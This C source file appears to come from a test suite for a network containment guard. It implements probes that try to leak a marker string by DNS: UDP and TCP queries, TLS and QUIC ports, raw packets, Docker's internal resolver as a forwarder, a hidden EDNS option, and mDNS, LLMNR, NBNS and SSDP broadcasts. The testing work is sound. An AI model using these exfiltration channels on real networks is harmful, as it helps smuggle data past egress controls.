// SPDX-License-Identifier: GPL-2.0-only
/*
 * Names as a way out: the name that is asked for is the message. It is the attempt's mark, so that
 * whoever passes the query on passes on the mark.
 */
#include <errno.h>
#include <linux/if_ether.h>
#include <net/if.h>
#include <poll.h>
#include <string.h>

#include "build.h"
#include "recipe.h"

#define DNS	   53
#define DNS_TLS	   853
#define MDNS	   5353
#define LLMNR	   5355
#define NBNS	   137
#define SSDP	   1900
#define DOCKER_DNS "127.0.0.11"
#define CONNECT_MS 300
#define OPT	   41
#define OPT_LOCAL  65001 /* RFC 6891, 9: for experiments */

struct query {
	uint8_t data[300];
	size_t len;
};

static void put(struct query *q, const void *data, size_t len)
{
	memcpy(q->data + q->len, data, len);
	q->len += len;
}

static void put16(struct query *q, unsigned int v)
{
	const uint8_t b[] = { (uint8_t)(v >> 8), (uint8_t)v };

	put(q, b, sizeof(b));
}

static void put_label(struct query *q, const char *label)
{
	uint8_t len = (uint8_t)strlen(label);

	put(q, &len, 1);
	put(q, label, len);
}

/* RFC 1035, 4.1. domain: NULL for a single label; extra: records behind the question. */
static struct query query(const char *label, const char *domain, unsigned int extra)
{
	struct query q = { .len = 0 };

	put16(&q, 0x4b47);
	put16(&q, 0x0100);
	put16(&q, 1);
	put16(&q, 0);
	put16(&q, 0);
	put16(&q, extra);
	put_label(&q, label);
	if (domain)
		put_label(&q, domain);
	put(&q, "", 1);
	put16(&q, 1);
	put16(&q, 1);
	return q;
}

static struct query marked(const struct attack_env *e)
{
	return query(e->mark, "example", 0);
}

/* An innocent name, and the message in an option behind it (RFC 6891). */
static struct query with_option(const struct attack_env *e)
{
	struct query q = query("db", NULL, 1);

	put(&q, "", 1);
	put16(&q, OPT);
	put16(&q, 1232);
	put16(&q, 0);
	put16(&q, 0);
	put16(&q, (unsigned int)e->mark_len + 4);
	put16(&q, OPT_LOCAL);
	put16(&q, (unsigned int)e->mark_len);
	put(&q, e->mark, e->mark_len);
	return q;
}

static int ask(struct dest to, struct query q)
{
	int fd = open_socket(to.sa.sa_family, SOCK_DGRAM, 0);

	return done(step(fd, "sendto", sendto(fd, q.data, q.len, 0, &to.sa, to.len)));
}

static int ask_connected(struct dest to, struct query q)
{
	int fd = connect_to(open_socket(to.sa.sa_family, SOCK_DGRAM, 0), to);

	return done(step(fd, "send", send(fd, q.data, q.len, 0)));
}

/* Length, then query. Nobody answers at the target: its first packet tells that it was asked. */
static int ask_tcp(struct dest to, struct query q)
{
	struct query m = { .len = 0 };
	int fd = connect_to(open_socket(to.sa.sa_family, SOCK_STREAM, 0), to);
	struct pollfd p = { .fd = fd, .events = POLLOUT };

	put16(&m, (unsigned int)q.len);
	put(&m, q.data, q.len);
	if (fd >= 0 && poll(&p, 1, CONNECT_MS) == 1)
		fd = step(fd, "send", send(fd, m.data, m.len, MSG_NOSIGNAL));
	return done(fd);
}

/* The gateway's resolver, as far as this is about: somebody who accepts. */
static int resolver(const struct attack_env *e)
{
	const struct in6_addr any = { 0 };
	int fd = bind_to(open_socket(AF_INET6, SOCK_STREAM, 0), dest6(any, DNS));

	return step(fd, "listen", fd < 0 ? -1 : listen(fd, 1)) < 0 || attack_tell(e, "up", 2, -1);
}

static int ask_tcp_resolver(const struct attack_env *e, struct dest to)
{
	char word[8];

	if (attack_hear(e, word, sizeof(word), NULL) < 0)
		return attack_said("helper", EIO);
	return ask_tcp(to, marked(e));
}

static int dns_udp(const struct attack_env *e)
{
	return ask(dest4(e->target4, DNS), marked(e));
}

static int dns_udp6(const struct attack_env *e)
{
	return ask(dest6(e->target6, DNS), marked(e));
}

static int dns_mapped(const struct attack_env *e)
{
	return ask_connected(mapped(e->target4, DNS), marked(e));
}

static int dns_connected(const struct attack_env *e)
{
	return ask_connected(dest4(e->target4, DNS), marked(e));
}

static int dns_connected6(const struct attack_env *e)
{
	return ask_connected(dest6(e->target6, DNS), marked(e));
}

static int dns_tcp(const struct attack_env *e)
{
	return ask_tcp_resolver(e, dest4(e->target4, DNS));
}

static int dns_tcp6(const struct attack_env *e)
{
	return ask_tcp_resolver(e, dest6(e->target6, DNS));
}

static int dns_tls(const struct attack_env *e)
{
	return ask_tcp(dest4(e->target4, DNS_TLS), marked(e));
}

static int dns_quic(const struct attack_env *e)
{
	return ask(dest4(e->target4, DNS_TLS), marked(e));
}

static int dns_odd_port(const struct attack_env *e)
{
	return ask(dest4(e->target4, DNS + 5000), marked(e));
}

static struct packet packet_query(const struct attack_env *e)
{
	struct query q = marked(e);
	struct packet p = packet_empty();

	packet_head(&p, q.data, q.len);
	packet_udp(&p, e->port, DNS);
	packet_ip4(&p, e->own4, e->target4, IPPROTO_UDP);
	return p;
}

static int dns_raw(const struct attack_env *e)
{
	struct packet p = packet_query(e);

	return done(inject4(&p, e->target4));
}

static int dns_packet(const struct attack_env *e)
{
	struct packet p = packet_query(e);

	packet_eth(&p, e->rogue_mac, e->own_mac, ETH_P_IP);
	return put_frame(open_socket(AF_PACKET, SOCK_RAW, 0), e->dev, &p);
}

/* ---- Docker's resolver: listens in the container's namespace, and asks others from there */
static int forwarder(const struct attack_env *e, int fd)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	uint8_t buf[512];
	ssize_t n;

	if (fd < 0)
		return 1;
	attack_tell(e, "up", 2, -1);
	if (poll(&p, 1, 1000) != 1)
		return 1;
	n = recv(fd, buf, sizeof(buf), 0);
	if (n > 0) {
		struct dest to = dest4(e->target4, DNS);
		int out = open_socket(AF_INET, SOCK_DGRAM, 0);

		sendto(out, buf, (size_t)n, 0, &to.sa, to.len);
	}
	return attack_tell(e, "ok", 2, -1);
}

static int docker_udp(const struct attack_env *e)
{
	return forwarder(
		e, bind_to(open_socket(AF_INET, SOCK_DGRAM, 0), dest4(address4(DOCKER_DNS), DNS)));
}

/* On another port, as dockerd has it behind its netfilter rules. */
static int docker_port(const struct attack_env *e)
{
	return forwarder(e, bind_to(open_socket(AF_INET, SOCK_DGRAM, 0),
				    dest4(address4(DOCKER_DNS), e->port)));
}

static int docker_tcp(const struct attack_env *e)
{
	int fd =
		bind_to(open_socket(AF_INET, SOCK_STREAM, 0), dest4(address4(DOCKER_DNS), e->port));
	struct pollfd p = { .fd = fd, .events = POLLIN };

	fd = step(fd, "listen", fd < 0 ? -1 : listen(fd, 1));
	if (fd < 0)
		return 1;
	attack_tell(e, "up", 2, -1);
	if (poll(&p, 1, 1000) != 1 || ask(dest4(e->target4, DNS), marked(e)))
		return 1;
	return attack_tell(e, "ok", 2, -1);
}

/* Asks the resolver that the helper plays, and gives it the time to pass it on. */
static int ask_docker(const struct attack_env *e, uint16_t port, struct query q)
{
	char word[8];
	int ret;

	if (attack_hear(e, word, sizeof(word), NULL) < 0)
		return attack_said("helper", EIO);
	ret = ask(dest4(address4(DOCKER_DNS), port), q);
	attack_hear(e, word, sizeof(word), NULL);
	return ret;
}

static int dns_docker(const struct attack_env *e)
{
	return ask_docker(e, DNS, marked(e));
}

static int dns_docker_port(const struct attack_env *e)
{
	return ask_docker(e, e->port, marked(e));
}

static int dns_docker_label(const struct attack_env *e)
{
	return ask_docker(e, DNS, query(e->mark, NULL, 0));
}

static int dns_docker_opt(const struct attack_env *e)
{
	return ask_docker(e, DNS, with_option(e));
}

static int dns_docker_tcp(const struct attack_env *e)
{
	char word[8];
	int ret;

	if (attack_hear(e, word, sizeof(word), NULL) < 0)
		return attack_said("helper", EIO);
	ret = ask_tcp(dest4(address4(DOCKER_DNS), e->port), marked(e));
	attack_hear(e, word, sizeof(word), NULL);
	return ret;
}

/* ---- names that are shouted on the link */
static int shout(const struct attack_env *e, struct dest to)
{
	int fd = open_socket(to.sa.sa_family, SOCK_DGRAM, 0);
	struct query q = query(e->mark, "local", 0);

	relay_begin(e);
	fd = set_int(fd, SOL_SOCKET, SO_BROADCAST, 1);
	fd = step(fd, "sendto", sendto(fd, q.data, q.len, 0, &to.sa, to.len));
	return relay_end(e, done(fd));
}

static struct dest on_link(const struct attack_env *e, const char *group, uint16_t port)
{
	struct dest to = dest6(address6(group), port);

	to.in6.sin6_scope_id = if_nametoindex(e->dev);
	return to;
}

static int mdns(const struct attack_env *e)
{
	return shout(e, dest4(address4("224.0.0.251"), MDNS));
}

static int mdns6(const struct attack_env *e)
{
	return shout(e, on_link(e, "ff02::fb", MDNS));
}

static int llmnr(const struct attack_env *e)
{
	return shout(e, dest4(address4("224.0.0.252"), LLMNR));
}

static int llmnr6(const struct attack_env *e)
{
	return shout(e, on_link(e, "ff02::1:3", LLMNR));
}

static int nbns(const struct attack_env *e)
{
	return shout(e, dest4(address4("172.30.0.255"), NBNS));
}

static int ssdp(const struct attack_env *e)
{
	return shout(e, dest4(address4("239.255.255.250"), SSDP));
}

#define ASK(id, text, more, code)                                                                  \
	{                                                                                          \
		.name = id, .what = text, .stop = STOP_I1, .flags = more, .run = code              \
	}
#define RESOLVER(id, text, code)                                                                   \
	{                                                                                          \
		.name = id, .what = text, .stop = STOP_I1,                                         \
		.flags = ATTACK_CAPTURED | ATTACK_ALONE, .run = code, .helper = resolver,          \
		.where = PLACE_GATEWAY,                                                            \
	}
#define DOCKER(id, text, more, code, resolver)                                                     \
	{                                                                                          \
		.name = id, .what = text, .stop = STOP_I1, .flags = ATTACK_ALONE | (more),         \
		.run = code, .helper = resolver, .where = PLACE_APP,                               \
	}
#define SHOUT(id, text, code, listener)                                                            \
	{                                                                                          \
		.name = id, .what = text, .stop = STOP_I1, .run = code, .helper = listener,        \
		.where = PLACE_ROGUE,                                                              \
	}

const struct attack attacks_dns[] = {
	ASK("dns_udp", "a resolver elsewhere: UDP", ATTACK_CAPTURED, dns_udp),
	ASK("dns_udp6", "... IPv6", ATTACK_CAPTURED, dns_udp6),
	ASK("dns_connected", "... on a connected socket", ATTACK_CAPTURED, dns_connected),
	ASK("dns_connected6", "... IPv6", ATTACK_CAPTURED, dns_connected6),
	ASK("dns_mapped", "... IPv4-mapped", ATTACK_CAPTURED, dns_mapped),
	RESOLVER("dns_tcp", "a resolver elsewhere: TCP", dns_tcp),
	RESOLVER("dns_tcp6", "... IPv6", dns_tcp6),
	ASK("dns_gateway", "... through the gateway", ATTACK_CAPTURED | ATTACK_GATEWAY, dns_udp),
	ASK("dns_gateway6", "... IPv6", ATTACK_CAPTURED | ATTACK_GATEWAY, dns_udp6),
	ASK("dns_tls", "... over TLS (853)", 0, dns_tls),
	ASK("dns_quic", "... over QUIC (853)", 0, dns_quic),
	ASK("dns_odd_port", "... on an odd port", 0, dns_odd_port),
	{ .name = "dns_raw",
	  .what = "... by a raw socket",
	  .stop = STOP_I1,
	  .needs = NEEDS_NET_RAW,
	  .run = dns_raw },
	{ .name = "dns_packet",
	  .what = "... by a packet socket",
	  .stop = STOP_LSM,
	  .needs = NEEDS_NET_RAW,
	  .run = dns_packet },
	DOCKER("dns_docker", "Docker's resolver, which asks from outside of the guard",
	       ATTACK_CAPTURED, dns_docker, docker_udp),
	DOCKER("dns_docker_port", "... at the port behind its netfilter rules", 0, dns_docker_port,
	       docker_port),
	DOCKER("dns_docker_name", "... for a name without a dot", ATTACK_CAPTURED, dns_docker_label,
	       docker_udp),
	DOCKER("dns_docker_opt", "... with the message in an EDNS option", ATTACK_CAPTURED,
	       dns_docker_opt, docker_udp),
	DOCKER("dns_docker_tcp", "... at such a port, over TCP", 0, dns_docker_tcp, docker_tcp),
	SHOUT("mdns", "a name shouted on the link: mDNS", mdns, hear_ip4),
	SHOUT("mdns6", "... IPv6", mdns6, hear_ip6),
	SHOUT("llmnr", "... LLMNR", llmnr, hear_ip4),
	SHOUT("llmnr6", "... IPv6", llmnr6, hear_ip6),
	{ .name = "nbns",
	  .what = "... NetBIOS: to the network's broadcast address, which the policy lists",
	  .stop = STOP_I3,
	  .run = nbns,
	  .helper = hear_ip4,
	  .where = PLACE_ROGUE },
	SHOUT("ssdp", "... SSDP", ssdp, hear_ip4),
	{ 0 },
};
